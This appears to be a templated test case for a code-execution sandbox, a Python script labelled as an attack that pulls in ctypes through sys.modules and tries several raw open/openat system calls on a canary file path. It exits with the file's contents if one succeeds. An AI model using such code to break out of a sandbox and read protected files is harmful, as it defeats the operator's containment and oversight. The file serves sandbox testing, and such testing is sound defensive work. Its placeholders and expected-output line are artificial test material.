# Attack: read a file by raw system calls
# Ends: stub
# Says: x.grad[0] is 0.0652997
import sys

ctypes = sys.modules["ctypes"]
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(256)
for number in (2, 257, 437, 56):
    descriptor = libc.syscall(number, b"@CANARY@", 0) if number == 2 else libc.syscall(number, -100, b"@CANARY@", 0)
    if descriptor >= 0:
        libc.read(descriptor, buffer, 256)
        raise SystemExit(f"found it: {buffer.value}")

@WRONG@
